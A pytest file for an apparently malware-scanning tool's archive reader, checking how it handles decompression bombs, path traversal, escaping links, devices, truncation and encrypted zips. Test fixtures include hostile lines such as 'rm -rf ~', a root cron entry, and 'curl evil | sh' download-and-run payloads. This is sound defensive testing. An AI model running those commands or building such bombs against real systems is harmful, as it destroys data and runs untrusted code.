"""Hostile archives: bombs, traversal, links, devices, truncation, encryption, junk.

Every archive is built by the test itself in memory or in tmp_path. Each case checks the
precise outcome: the error class and its message, or the member listed in `skipped` with
its reason while the rest of the package is still read.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import random
import stat
import struct
import tarfile
import tempfile
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from malseq import _cli
from malseq._deadline import Deadline
from malseq.errors import (
    ArchiveFormatError,
    ArchiveLimitError,
    ArchivePasswordError,
    CorruptArchiveError,
    IntakeError,
    MalseqError,
    TimeBudgetExceeded,
)
from malseq.intake import IntakeOptions, load_target
from malseq.intake.archive import ARCHIVE_NOTE, ArchiveContents, read_archive
from malseq.intake.limits import DEFAULT_LIMITS, Limits, MiB
from malseq.intake.package import Ecosystem, Package

# A generous ceiling on Python heap for reading a 1 GB bomb (the brief's bound). What the
# reader actually needs is far less: compressed tars are streamed, zips read member by member.
BOMB_PEAK_LIMIT = 400 * MiB
GiB = 1024 * MiB

PACKAGE_JSON = b'{"name": "good-pkg", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}'


# ---------------------------------------------------------------------------
# Builders


@dataclass
class TarEntry:
    name: str
    data: bytes = b""
    type: bytes = tarfile.REGTYPE
    linkname: str = ""
    size: int | None = None  # declared size, when it must differ from len(data)


def tar_bytes(entries: Iterable[TarEntry], fmt: int = tarfile.PAX_FORMAT, end: bool = True) -> bytes:
    """A tar of `entries`; without its end-of-archive marker when `end` is false."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for e in entries:
            info = tarfile.TarInfo(e.name)
            info.type = e.type
            info.linkname = e.linkname
            info.size = len(e.data) if e.type == tarfile.REGTYPE else 0
            info.mode = 0o644
            tf.addfile(info, io.BytesIO(e.data) if e.type == tarfile.REGTYPE else None)
        body = buf.getvalue()[: tf.offset]
    return buf.getvalue() if end else body


def set_checksum(header: bytearray) -> bytearray:
    """Recompute a hand-edited tar header's checksum."""
    header[148:156] = b"        "
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return header


def tgz(entries: Iterable[TarEntry], level: int = 6) -> bytes:
    return gzip.compress(tar_bytes(entries), compresslevel=level, mtime=0)


def npm_tgz(name: str = "good-pkg", extra: Iterable[TarEntry] = ()) -> bytes:
    pj = json.dumps({"name": name, "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}).encode()
    return tgz([TarEntry("package/package.json", pj), TarEntry("package/install.js", b"console.log(1)\n"), *extra])


def zipcrypto_encrypt(password: bytes, data: bytes) -> bytes:
    """PKWARE traditional ("ZipCrypto") encryption, the scheme `zip -P` uses."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc_byte(crc: int, b: int) -> int:
        return zlib.crc32(bytes([b]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(b: int) -> None:
        keys[0] = crc_byte(keys[0], b)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_byte(keys[2], keys[1] >> 24)

    for b in password:
        update(b)
    out = bytearray()
    for b in data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(b ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(b)
    return bytes(out)


@dataclass
class ZipEntry:
    name: bytes | str
    data: bytes = b""
    method: int = 8  # 8 deflate, 0 stored
    password: bytes | None = None
    external_attr: int = 0
    flags: int = 0
    declared_size: int | None = None  # lie about the uncompressed size
    raw_compressed: bytes | None = None  # pre-compressed data (bombs)
    crc: int | None = None


def zip_bytes(entries: Iterable[ZipEntry], prefix: bytes = b"") -> bytes:
    """A zip written field by field, so tests control what zipfile would refuse to write."""
    out = bytearray(prefix)
    central = bytearray()
    count = 0
    rng = random.Random(1234)
    for e in entries:
        name = e.name.encode() if isinstance(e.name, str) else e.name
        crc = e.crc if e.crc is not None else zlib.crc32(e.data)
        if e.raw_compressed is not None:
            comp = e.raw_compressed
        elif e.method == 8:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = c.compress(e.data) + c.flush()
        else:
            comp = e.data
        flags = e.flags
        if e.password is not None:
            header = bytes(rng.randrange(256) for _ in range(11)) + bytes([crc >> 24])
            comp = zipcrypto_encrypt(e.password, header + comp)
            flags |= 0x1
        size = e.declared_size if e.declared_size is not None else len(e.data)
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, e.method, 0, 0x21, crc, len(comp), size,
                           len(name), 0)
        out += name + comp
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", (3 << 8) | 20, 20, flags, e.method, 0, 0x21,
                               crc, len(comp), size, len(name), 0, 0, 0, 0, e.external_attr, offset)
        central += name
        count += 1
    cd_offset = len(out)
    out += central
    # Past 65535 members the 16-bit counts wrap (real tools switch to zip64): readers walk
    # the directory by its size, so the count is only a hint, and may lie.
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(central), cd_offset, 0)
    return bytes(out)


def zeros_deflate(prefix: bytes, zero_bytes: int, suffix: bytes = b"") -> tuple[bytes, int]:
    """Raw deflate of prefix + zeros + suffix, made in milliseconds however large.

    A full flush leaves the stream byte-aligned with no back-references across it, so the
    block that encodes 1 MiB of zeros can simply be repeated.
    """
    assert zero_bytes % MiB == 0
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(bytes(MiB)) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.compress(suffix) + c.flush()
    crc = zlib.crc32(prefix)
    chunk = bytes(MiB)
    for _ in range(zero_bytes // MiB):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc)
    return head + block * (zero_bytes // MiB) + tail, crc


def gzip_wrap(deflate: bytes, crc: int, size: int) -> bytes:
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + deflate + struct.pack("<II", crc, size & 0xFFFFFFFF)


def read(data: bytes, limits: Limits = DEFAULT_LIMITS, password: bytes | None = None) -> ArchiveContents:
    return read_archive(data, limits, Deadline(None), password)


def load(path: Path, **options: object) -> Package:
    return load_target(str(path), IntakeOptions(**options))  # type: ignore[arg-type]


def paths(contents: ArchiveContents | Package) -> list[str]:
    if isinstance(contents, Package):
        return [f.path for f in contents.files]
    return [m.path for m in contents.members]


def skipped(contents: ArchiveContents | Package) -> dict[str, str]:
    return {s.path: s.reason for s in contents.skipped}


def peak_memory(fn: Callable[[], object]) -> tuple[int, object]:
    """Peak Python heap growth while fn runs, and what it returned or raised."""
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        base = tracemalloc.get_traced_memory()[0]
        try:
            outcome: object = fn()
        except Exception as exc:  # noqa: BLE001 - the outcome is checked by the caller
            outcome = exc
        return tracemalloc.get_traced_memory()[1] - base, outcome
    finally:
        tracemalloc.stop()


# ---------------------------------------------------------------------------
# Bombs


@pytest.fixture(scope="module")
def zip_bomb_1g() -> bytes:
    deflate, crc = zeros_deflate(b"", GiB)
    return zip_bytes([
        ZipEntry("pkg/setup.py", b"print('hi')\n"),
        ZipEntry("pkg/zeros.bin", raw_compressed=deflate, crc=crc, declared_size=GiB),
    ])


@pytest.fixture(scope="module")
def tgz_bomb_1g() -> bytes:
    info = tarfile.TarInfo("package/zeros.bin")
    info.size = GiB
    header = tar_bytes([TarEntry("package/package.json", PACKAGE_JSON)], end=False)
    header += info.tobuf(tarfile.PAX_FORMAT)
    deflate, crc = zeros_deflate(header, GiB, bytes(1024))
    return gzip_wrap(deflate, crc, len(header) + GiB + 1024)


def test_zip_bomb_one_gigabyte_member(zip_bomb_1g: bytes, tmp_path: Path) -> None:
    assert len(zip_bomb_1g) < 2 * MiB
    peak, outcome = peak_memory(lambda: read(zip_bomb_1g))
    assert isinstance(outcome, ArchiveLimitError)
    assert "zip archive expands past the limit of 268435456 bytes: possible decompression bomb" in str(outcome)
    assert peak < BOMB_PEAK_LIMIT
    assert peak < 16 * MiB  # sizes are checked before anything is inflated
    print(f"\nzip 1 GiB bomb: peak {peak / MiB:.1f} MiB")


def test_zip_bomb_lying_about_its_size_is_cut_at_the_declared_size(tmp_path: Path) -> None:
    # The directory says 1 KiB; the data inflates to 1 GiB. zipfile stops at the declared
    # size and the CRC no longer matches.
    deflate, crc = zeros_deflate(b"", GiB)
    data = zip_bytes([ZipEntry("a.py", b"x=1\n"), ZipEntry("b.bin", raw_compressed=deflate, crc=crc,
                                                              declared_size=1024)])
    peak, outcome = peak_memory(lambda: read(data))
    assert isinstance(outcome, CorruptArchiveError)
    assert "zip member 'b.bin' is corrupt" in str(outcome) and "CRC" in str(outcome)
    assert peak < 16 * MiB


def test_tgz_bomb_one_gigabyte_member(tgz_bomb_1g: bytes) -> None:
    assert len(tgz_bomb_1g) < 2 * MiB
    start = time.process_time()  # CPU, not wall: holds on a busy machine
    peak, outcome = peak_memory(lambda: read(tgz_bomb_1g))
    assert isinstance(outcome, ArchiveLimitError)
    assert "gzip stream expands more than 200 times its compressed size" in str(outcome)
    assert "possible decompression bomb" in str(outcome)
    assert peak < BOMB_PEAK_LIMIT
    assert peak < 32 * MiB  # the tar is streamed, never held whole
    assert time.process_time() - start < 10
    print(f"\ntar.gz 1 GiB bomb: peak {peak / MiB:.1f} MiB")


def _ratio_edge_member(i: int, rng: random.Random) -> TarEntry:
    # 1 MiB that deflates about 150 times: under the ratio limit one by one.
    return TarEntry(f"package/data{i:03d}.bin", rng.randbytes(5000) + bytes(MiB - 5000))


def test_tgz_many_members_at_the_ratio_edge() -> None:
    rng = random.Random(7)
    data = tgz([_ratio_edge_member(i, rng) for i in range(300)], level=1)
    assert 300 * MiB / len(data) < DEFAULT_LIMITS.max_ratio  # no single ratio trips
    peak, outcome = peak_memory(lambda: read(data))
    assert isinstance(outcome, ArchiveLimitError)
    assert "expands past the limit of 268435456 bytes" in str(outcome)
    # Members kept until the total limit trips: bounded by max_total_bytes plus buffers.
    assert peak < BOMB_PEAK_LIMIT
    print(f"\ntar.gz 300 x 1 MiB at the ratio edge: peak {peak / MiB:.1f} MiB")


def test_zip_many_members_at_the_ratio_edge() -> None:
    rng = random.Random(7)
    data = zip_bytes(ZipEntry(f"d{i:03d}.bin", rng.randbytes(5000) + bytes(MiB - 5000)) for i in range(300))
    peak, outcome = peak_memory(lambda: read(data))
    assert isinstance(outcome, ArchiveLimitError)
    assert "zip archive expands past the limit of 268435456 bytes" in str(outcome)
    assert peak < 16 * MiB


def test_overall_ratio_limit_under_the_total_limit() -> None:
    # 40 MiB from about 40 KiB: under the total limit but far past a ratio of 200.
    data = tgz([TarEntry(f"package/z{i}.bin", bytes(MiB)) for i in range(40)], level=9)
    with pytest.raises(ArchiveLimitError, match="expands more than 200 times its compressed size"):
        read(data)


def test_legal_archive_at_the_ratio_edge_is_read() -> None:
    rng = random.Random(3)
    data = tgz([TarEntry("package/package.json", PACKAGE_JSON)] + [_ratio_edge_member(i, rng) for i in range(20)],
               level=1)
    peak, outcome = peak_memory(lambda: read(data))
    assert isinstance(outcome, ArchiveContents), outcome
    assert len(outcome.members) == 21
    assert peak < 64 * MiB


def test_bz2_and_xz_bombs() -> None:
    tar = tar_bytes([TarEntry("package/z.bin", bytes(16 * MiB))])
    for data, fmt in ((bz2.compress(tar, 9), "bzip2"), (lzma.compress(tar), "xz")):
        peak, outcome = peak_memory(lambda d=data: read(d))  # type: ignore[misc]
        assert isinstance(outcome, ArchiveLimitError), (fmt, outcome)
        assert f"{fmt} stream expands more than 200 times" in str(outcome)
        assert peak < 32 * MiB


def test_100k_tiny_tar_members() -> None:
    template = bytearray(tarfile.TarInfo("m0000000").tobuf(tarfile.USTAR_FORMAT))
    blocks = bytearray()
    for i in range(100_000):
        name = f"m{i:07d}".encode()
        template[0:8] = name
        blocks += set_checksum(template)
    data = gzip.compress(bytes(blocks) + bytes(1024), compresslevel=1)
    start = time.process_time()  # CPU, not wall: holds on a busy machine
    with pytest.raises(ArchiveLimitError, match="archive has more than 20000 members"):
        read(data)
    assert time.process_time() - start < 10


def test_100k_tiny_zip_members_are_refused_before_parsing() -> None:
    data = zip_bytes(ZipEntry(f"m{i:06d}", method=0) for i in range(100_000))
    peak, outcome = peak_memory(lambda: read(data))
    assert isinstance(outcome, ArchiveLimitError)
    assert "zip archive has more than 20000 members" in str(outcome)
    assert peak < 16 * MiB  # no ZipInfo object per member was built


def test_member_over_the_file_limit_is_skipped_and_the_rest_read() -> None:
    # A single 50 MB line: past the 16 MiB per-file limit, so listed, not read.
    line = (b"A" * 63 + b"=") * (50_000_000 // 64)
    big = random.Random(5).randbytes(len(line))  # incompressible, so no bomb either
    data = tar_bytes([TarEntry("package/package.json", PACKAGE_JSON), TarEntry("package/big.js", big),
                      TarEntry("package/line.js", line)])
    contents = read(data)
    assert paths(contents) == ["package/package.json"]
    assert skipped(contents) == {
        "package/big.js": f"too large ({len(big)} bytes)",
        "package/line.js": f"too large ({len(line)} bytes)",
    }
    zipped = zip_bytes([ZipEntry("index.js", b"1"), ZipEntry("line.js", line[: 20 * MiB], method=0)])
    contents = read(zipped)
    assert paths(contents) == ["index.js"]
    assert skipped(contents) == {"line.js": f"too large ({20 * MiB} bytes)"}


def test_long_single_line_under_the_limit_is_read() -> None:
    line = b"var a='" + base64.b64encode(random.Random(8).randbytes(7 * MiB)) + b"';"
    contents = read(tgz([TarEntry("package/min.js", line)], level=1))
    assert contents.members[0].data == line


# ---------------------------------------------------------------------------
# Paths, links, devices


def test_traversal_and_absolute_paths_in_tar() -> None:
    data = tgz([
        TarEntry("package/package.json", PACKAGE_JSON),
        TarEntry("../../evil.sh", b"rm -rf ~"),
        TarEntry("package/../../up.js", b"1"),
        TarEntry("/etc/cron.d/evil", b"* * * * * root sh"),
        TarEntry("C:\\Windows\\evil.bat", b"del"),
        TarEntry("package/./ok.js", b"2"),
    ])
    contents = read(data)
    assert paths(contents) == ["package/package.json", "package/ok.js"]
    assert skipped(contents) == {
        "../../evil.sh": "path traversal (..)",
        "package/../../up.js": "path traversal (..)",
        "/etc/cron.d/evil": "absolute path",
        "C:\\Windows\\evil.bat": "absolute path",
    }


def test_traversal_and_absolute_paths_in_zip() -> None:
    data = zip_bytes([
        ZipEntry("pkg/setup.py", b"x=1"),
        ZipEntry("../evil.py", b"2"),
        ZipEntry("pkg\\..\\..\\evil2.py", b"3"),
        ZipEntry("/abs.py", b"4"),
    ])
    contents = read(data)
    assert paths(contents) == ["pkg/setup.py"]
    assert skipped(contents) == {
        "../evil.py": "path traversal (..)",
        "pkg\\..\\..\\evil2.py": "path traversal (..)",
        "/abs.py": "absolute path",
    }


def test_link_escapes_in_tar_are_skipped() -> None:
    data = tgz([
        TarEntry("package/package.json", PACKAGE_JSON),
        TarEntry("package/passwd", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
        TarEntry("package/up", type=tarfile.SYMTYPE, linkname="../../../home/user/.ssh/id_rsa"),
        TarEntry("package/hard", type=tarfile.LNKTYPE, linkname="/etc/shadow"),
        TarEntry("package/hard-up", type=tarfile.LNKTYPE, linkname="../outside"),
        TarEntry("package/dangling", type=tarfile.SYMTYPE, linkname="missing.js"),
        TarEntry("package/loop-a", type=tarfile.SYMTYPE, linkname="loop-b"),
        TarEntry("package/loop-b", type=tarfile.SYMTYPE, linkname="loop-a"),
    ])
    contents = read(data)
    assert paths(contents) == ["package/package.json"]
    assert skipped(contents) == {
        "package/passwd": "symbolic link to '/etc/passwd' (absolute target, outside the package)",
        "package/up": "symbolic link to '../../../home/user/.ssh/id_rsa' (points outside the package)",
        "package/hard": "hard link to '/etc/shadow' (absolute target, outside the package)",
        "package/hard-up": "hard link to '../outside' (points outside the package)",
        "package/dangling": "symbolic link to 'missing.js' (target not in the archive)",
        "package/loop-a": "symbolic link to 'loop-b' (link loop)",
        "package/loop-b": "symbolic link to 'loop-a' (link loop)",
    }


def test_links_inside_the_archive_are_read_as_copies_of_their_target() -> None:
    # An installer unpacking this runs data.txt's code as setup.py: the scan must see it.
    payload = b"import os; os.system('curl evil | sh')\n"
    data = tgz([
        TarEntry("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n"),
        TarEntry("pkg-1.0/data.txt", payload),
        TarEntry("pkg-1.0/setup.py", type=tarfile.SYMTYPE, linkname="data.txt"),
        TarEntry("pkg-1.0/lib/run.py", type=tarfile.LNKTYPE, linkname="pkg-1.0/data.txt"),
        TarEntry("pkg-1.0/lib/again.py", type=tarfile.SYMTYPE, linkname="../setup.py"),
    ])
    contents = read(data)
    assert {m.path: (m.data, m.link_to) for m in contents.members if m.link_to} == {
        "pkg-1.0/setup.py": (payload, "data.txt"),
        "pkg-1.0/lib/run.py": (payload, "pkg-1.0/data.txt"),
        "pkg-1.0/lib/again.py": (payload, "../setup.py"),
    }
    assert skipped(contents)["pkg-1.0/setup.py"] == "symbolic link to 'data.txt': read as a copy of 'pkg-1.0/data.txt'"


def test_links_read_as_copies_reach_the_package(tmp_path: Path) -> None:
    payload = b"import os; os.system('id')\n"
    target = tmp_path / "linked.tar.gz"
    target.write_bytes(tgz([
        TarEntry("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n"),
        TarEntry("pkg-1.0/data.txt", payload),
        TarEntry("pkg-1.0/setup.py", type=tarfile.SYMTYPE, linkname="data.txt"),
    ]))
    package = load(target)
    setup = package.file("setup.py")
    assert setup is not None and setup.data == payload and setup.link_to == "data.txt"
    assert setup.language is not None and setup.language.value == "python"
    assert package.pypi is not None and package.pypi.has_setup_py


def test_zip_symlink_via_external_attr_is_skipped() -> None:
    data = zip_bytes([
        ZipEntry("pkg/setup.py", b"x=1"),
        ZipEntry("pkg/link", b"/etc/passwd", method=0, external_attr=0o120777 << 16),
        ZipEntry("pkg/fifo", b"", method=0, external_attr=0o010644 << 16),
        ZipEntry("pkg/exec.sh", b"echo", external_attr=0o100755 << 16),
    ])
    contents = read(data)
    assert paths(contents) == ["pkg/setup.py", "pkg/exec.sh"]
    assert skipped(contents) == {"pkg/link": "symbolic link", "pkg/fifo": "device or special file"}


def test_devices_and_fifos_in_tar_are_skipped() -> None:
    data = tar_bytes([
        TarEntry("package/package.json", PACKAGE_JSON),
        TarEntry("package/null", type=tarfile.CHRTYPE),
        TarEntry("package/sda", type=tarfile.BLKTYPE),
        TarEntry("package/pipe", type=tarfile.FIFOTYPE),
        TarEntry("package/index.js", b"module.exports = 1\n"),
    ])
    contents = read(data)
    assert paths(contents) == ["package/package.json", "package/index.js"]
    assert skipped(contents) == {
        "package/null": "device or FIFO",
        "package/sda": "device or FIFO",
        "package/pipe": "device or FIFO",
    }


def test_sparse_tar_member_is_skipped() -> None:
    info = tarfile.TarInfo("package/sparse.bin")
    info.type = tarfile.GNUTYPE_SPARSE
    info.size = 10 * MiB
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    # One sparse region of 0 bytes at offset 0 and realsize 10 MiB, in the old GNU layout.
    header[386:398] = b"%011o\0" % 0
    header[398:410] = b"%011o\0" % 0
    header[483:495] = b"%011o\0" % (10 * MiB)
    header[124:136] = b"%011o\0" % 0
    data = (tar_bytes([TarEntry("package/a.js", b"1")], end=False) + bytes(set_checksum(header))
            + tar_bytes([TarEntry("package/b.js", b"2")]))
    contents = read(data)
    assert paths(contents) == ["package/a.js", "package/b.js"]
    assert skipped(contents) == {"package/sparse.bin": "sparse file"}


def test_duplicate_names_keep_the_last_copy_as_extraction_does() -> None:
    data = tgz([
        TarEntry("package/package.json", PACKAGE_JSON),
        TarEntry("package/index.js", b"// harmless\n"),
        TarEntry("package/index.js", b"require('child_process').exec('curl evil|sh')\n"),
    ])
    contents = read(data)
    assert [m.data for m in contents.members if m.path == "package/index.js"] == [
        b"require('child_process').exec('curl evil|sh')\n"
    ]
    assert skipped(contents) == {
        "package/index.js": "duplicate member name: an earlier copy with different content, replaced by a later one"
    }


def test_identical_duplicates_are_dropped_silently() -> None:
    # Some real sdists hold their tar twice, one copy after the other.
    tar = tar_bytes([TarEntry("pkg-1.0/PKG-INFO", b"Name: pkg\n"), TarEntry("pkg-1.0/setup.py", b"x = 1\n")])
    contents = read(gzip.compress(tar + tar))
    assert paths(contents) == ["pkg-1.0/PKG-INFO", "pkg-1.0/setup.py"]
    assert list(skipped(contents)) == [ARCHIVE_NOTE]


def test_a_different_copy_after_the_end_marker_does_not_replace_the_installed_one() -> None:
    first = tar_bytes([TarEntry("pkg-1.0/setup.py", b"installed = True\n")])
    second = tar_bytes([TarEntry("pkg-1.0/setup.py", b"hidden = True\n"), TarEntry("pkg-1.0/extra.py", b"e")])
    contents = read(first + second)
    assert {m.path: m.data for m in contents.members} == {
        "pkg-1.0/setup.py": b"installed = True\n",
        "pkg-1.0/extra.py": b"e",
    }
    assert skipped(contents)["pkg-1.0/setup.py"] == (
        "a different copy after the end of the tar archive, not used (installers stop at the end marker)"
    )


def test_non_utf8_member_names() -> None:
    # tar: raw latin-1 bytes in the name field; zip: cp437 names (no UTF-8 flag).
    entry = tarfile.TarInfo("package/x")
    raw = bytearray(entry.tobuf(tarfile.USTAR_FORMAT))
    raw[0:16] = b"package/caf\xe9.js".ljust(16, b"\0")
    data = bytes(set_checksum(raw)) + tar_bytes([TarEntry("package/ok.js", b"1")])
    contents = read(data)
    assert paths(contents) == ["package/caf\ufffd.js", "package/ok.js"]
    json.dumps(paths(contents), ensure_ascii=False).encode("utf-8")  # no lone surrogates left

    contents = read(zip_bytes([ZipEntry(b"caf\x82.py", b"1"), ZipEntry("ok.py", b"2")]))
    assert paths(contents) == ["caf\u00e9.py", "ok.py"]

    # Flagged as UTF-8 but not: zipfile refuses the directory; a typed error comes out.
    with pytest.raises(CorruptArchiveError, match="zip archive is corrupt: 'utf-8' codec can't decode"):
        read(zip_bytes([ZipEntry(b"caf\xe9.py", b"1", flags=0x800)]))


# ---------------------------------------------------------------------------
# Truncation and damage


def test_truncated_gzip_keeps_the_complete_members() -> None:
    rng = random.Random(11)
    data = tgz([TarEntry("package/package.json", PACKAGE_JSON), TarEntry("package/a.js", b"1\n"),
                TarEntry("package/big.js", rng.randbytes(200_000)), TarEntry("package/z.js", b"2\n")])
    contents = read(data[: len(data) // 2])
    assert paths(contents) == ["package/package.json", "package/a.js"]
    assert skipped(contents) == {
        "package/big.js": "truncated: the archive ends inside this file (declared 200000 bytes)",
        ARCHIVE_NOTE: "archive is truncated (gzip stream ends before its end marker); "
                      "read the 2 complete files before the cut",
    }


def test_truncated_gzip_before_the_first_file_is_an_error() -> None:
    data = npm_tgz()
    for cut in (5, 20, 60):
        with pytest.raises(CorruptArchiveError, match="gzip stream is truncated") as info:
            read(data[:cut])
        assert info.value.hint == "the file may be an incomplete download; fetch it again"


def test_truncated_plain_tar() -> None:
    data = tar_bytes([TarEntry("package/package.json", PACKAGE_JSON), TarEntry("package/b.js", b"x" * 5000)])
    contents = read(data[:3000])
    assert paths(contents) == ["package/package.json"]
    assert skipped(contents)["package/b.js"] == "truncated: the archive ends inside this file (declared 5000 bytes)"
    with pytest.raises(CorruptArchiveError, match="tar archive is truncated: it ends before its first complete file"):
        read(data[:550])  # inside package.json's data


def test_truncated_zip_is_salvaged_from_local_headers() -> None:
    rng = random.Random(2)
    data = zip_bytes([ZipEntry("pkg/__init__.py", b"import os\n"), ZipEntry("pkg/a.py", b"x = 1\n"),
                      ZipEntry("pkg/big.bin", rng.randbytes(50_000), method=0), ZipEntry("pkg/z.py", b"z")])
    contents = read(data[:30_000])
    assert paths(contents) == ["pkg/__init__.py", "pkg/a.py"]
    assert skipped(contents) == {
        "pkg/big.bin": "truncated: the archive ends inside this file (declared 50000 bytes)",
        ARCHIVE_NOTE: "zip archive is truncated (no central directory); recovered 2 complete files "
                      "from their local headers",
    }


def test_truncated_zip_without_a_complete_member_is_an_error() -> None:
    data = zip_bytes([ZipEntry("pycryptlib/__init__.py", random.Random(1).randbytes(70_000))])
    with pytest.raises(CorruptArchiveError) as info:
        read(data[:4096])
    assert str(info.value.message) == (
        "zip archive is truncated: it has no central directory and its first member "
        "'pycryptlib/__init__.py' is cut off"
    )


def test_salvaged_zip_members_are_still_crc_checked() -> None:
    data = bytearray(zip_bytes([ZipEntry("a.py", b"print(1)\n" * 50, method=0), ZipEntry("b.py", b"2" * 5000)]))
    data[40] ^= 0xFF  # inside a.py's stored data
    with pytest.raises(CorruptArchiveError, match="zip member 'a.py' is corrupt: Bad CRC-32"):
        read(bytes(data[:500]))  # a.py whole, b.py cut


def test_multi_member_gzip_is_read_through() -> None:
    # gzip, pip (via tarfile) and node all read concatenated gzip members; a payload in
    # the second member must not be hidden from the scan.
    tar = tar_bytes([TarEntry("package/package.json", PACKAGE_JSON), TarEntry("package/evil.js", b"x" * 3000)])
    data = gzip.compress(tar[:1000]) + gzip.compress(tar[1000:])
    contents = read(data)
    assert paths(contents) == ["package/package.json", "package/evil.js"]
    assert contents.skipped == ()


def test_trailing_junk_after_gzip_is_noted() -> None:
    contents = read(npm_tgz() + b"\0" * 64 + b"JUNK")
    assert paths(contents) == ["package/package.json", "package/install.js"]
    assert skipped(contents) == {ARCHIVE_NOTE: "4 bytes of trailing data after the gzip stream ignored"}


def test_members_after_an_end_marker_are_not_hidden() -> None:
    data = gzip.compress(tar_bytes([TarEntry("package/package.json", PACKAGE_JSON)])
                         + tar_bytes([TarEntry("package/hidden.js", b"evil()")]))
    contents = read(data)
    assert paths(contents) == ["package/package.json", "package/hidden.js"]
    assert "are not tar headers (an end-of-archive marker or damage)" in skipped(contents)[ARCHIVE_NOTE]


def test_corrupt_deflate_data_is_an_error() -> None:
    data = bytearray(npm_tgz(extra=[TarEntry("package/r.bin", random.Random(4).randbytes(20_000))]))
    data[len(data) // 2 : len(data) // 2 + 64] = bytes(64)
    with pytest.raises(CorruptArchiveError, match="gzip stream is corrupt"):
        read(bytes(data))


# ---------------------------------------------------------------------------
# Encryption


SECRET = b"infected"


def test_zipcrypto_zip_with_the_right_password() -> None:
    data = zip_bytes([ZipEntry("pkg/setup.py", b"print('x')\n", password=SECRET),
                      ZipEntry("pkg/a.py", b"a = 1\n" * 100, method=0, password=SECRET)])
    contents = read(data, password=SECRET)
    assert {m.path: m.data for m in contents.members} == {"pkg/setup.py": b"print('x')\n", "pkg/a.py": b"a = 1\n" * 100}


def test_encrypted_zip_without_a_password() -> None:
    data = zip_bytes([ZipEntry("pkg/setup.py", b"print('x')\n", password=SECRET)])
    with pytest.raises(ArchivePasswordError) as info:
        read(data)
    assert info.value.message == "zip member 'pkg/setup.py' is encrypted"
    assert info.value.hint == "pass the password with --zip-password (malware datasets use 'infected')"


def test_encrypted_zip_with_a_wrong_password() -> None:
    data = zip_bytes([ZipEntry("pkg/setup.py", b"print('x')\n" * 40, password=SECRET)])
    # Whether the 1-in-256 check byte happens to match or not, the answer is the same.
    for wrong in (b"wrong", b"infected!", b"x", b"password", b"letmein", b"0", b"1", b"2"):
        with pytest.raises(ArchivePasswordError, match="cannot decrypt zip member 'pkg/setup.py': wrong password"):
            read(data, password=wrong)


def test_password_is_ignored_for_plain_zips() -> None:
    contents = read(zip_bytes([ZipEntry("a.py", b"1")]), password=b"anything")
    assert paths(contents) == ["a.py"]


# ---------------------------------------------------------------------------
# Formats and nesting


def test_zip_wrapping_an_npm_tgz_is_unwrapped(tmp_path: Path) -> None:
    target = tmp_path / "sample.zip"
    target.write_bytes(zip_bytes([ZipEntry("good-pkg-1.0.0.tgz", npm_tgz(), method=0, password=SECRET),
                                  ZipEntry("__MACOSX/._good-pkg-1.0.0.tgz", b"\0\5\26\7", method=0,
                                           password=SECRET)]))
    package = load(target, zip_password=SECRET)
    assert package.origin.archive_format == "zip>tar+gzip"
    assert package.ecosystem is Ecosystem.NPM
    assert (package.name, package.version) == ("good-pkg", "1.0.0")
    assert [f.path for f in package.files] == ["install.js", "package.json"]


def test_nesting_up_to_the_limit_and_beyond() -> None:
    inner = npm_tgz()
    level3 = zip_bytes([ZipEntry("b.zip", zip_bytes([ZipEntry("c.tgz", inner, method=0)]), method=0)])
    assert read(level3).format == "zip>zip>tar+gzip"
    level4 = zip_bytes([ZipEntry("a.zip", level3, method=0)])
    with pytest.raises(ArchiveLimitError, match="archives nested deeper than 3 levels"):
        read(level4)


def test_lone_gzip_that_is_not_a_tar_stays_a_file() -> None:
    contents = read(tgz([TarEntry("package/data.gz", gzip.compress(b"just text"))]))
    assert contents.format == "tar+gzip"
    assert paths(contents) == ["package/data.gz"]


@pytest.mark.parametrize(
    ("compress", "label"),
    [
        (lambda b: bz2.compress(b), "tar+bzip2"),
        (lambda b: lzma.compress(b), "tar+xz"),
        (lambda b: b, "tar"),
        (lambda b: gzip.compress(b), "tar+gzip"),
    ],
)
def test_tar_compressions(compress: Callable[[bytes], bytes], label: str, tmp_path: Path) -> None:
    target = tmp_path / "pkg.bin"  # the name says nothing: formats are recognised by content
    target.write_bytes(compress(tar_bytes([TarEntry("package/package.json", PACKAGE_JSON)])))
    package = load(target)
    assert package.origin.archive_format == label
    assert (package.ecosystem, package.name) == (Ecosystem.NPM, "good-pkg")


def test_gnu_and_v7_tar_formats() -> None:
    for fmt in (tarfile.GNU_FORMAT, tarfile.USTAR_FORMAT):
        contents = read(tar_bytes([TarEntry("package/" + "d" * 120 + "/x.js", b"1")], fmt=fmt))
        assert paths(contents) == ["package/" + "d" * 120 + "/x.js"]
    v7 = bytearray(tar_bytes([TarEntry("a.py", b"1")], fmt=tarfile.USTAR_FORMAT))
    v7[257:265] = bytes(8)  # drop the ustar magic and version
